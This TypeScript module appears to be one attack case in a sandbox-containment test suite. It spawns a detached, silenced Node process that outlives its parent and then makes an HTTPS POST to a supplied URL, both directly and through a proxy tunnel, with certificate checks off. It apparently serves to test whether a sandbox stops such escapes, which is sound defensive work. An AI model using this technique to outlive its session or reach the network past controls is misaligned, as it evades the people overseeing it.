import { spawn } from 'node:child_process';
import type { Attack } from '../attack.ts';

/** Waits until whoever started it is gone, then writes: straight, and through the proxy where there is one. */
const program = `
const { request } = require('node:http');
const https = require('node:https');
const [url, proxy] = process.argv.slice(1);
const parent = process.ppid;
const send = (socket) =>
  https.request(url, { method: 'POST', rejectUnauthorized: false, ...(socket ? { socket, agent: false } : {}) })
    .on('error', () => {}).end();
const write = () => {
  clearInterval(look);
  send();
  if (proxy === '') return;
  const connect = request(proxy, { method: 'CONNECT', path: new URL(url).host });
  connect.on('connect', (_, socket) => send(socket)).on('error', () => {}).end();
};
const look = setInterval(() => { if (process.ppid !== parent) write(); }, 100);
setTimeout(() => process.exit(), 600_000);
`;

/** A process that outlives its run. */
export const afterTheEnd: Attack = {
  id: 'request-after-the-end',
  by: 'seal',
  attempt: ({ url, proxyUrl }) => {
    const parameters = ['-e', program, url, proxyUrl ?? ''];
    spawn(process.execPath, parameters, { detached: true, stdio: 'ignore', env: {} }).unref();
    return Promise.resolve();
  },
};
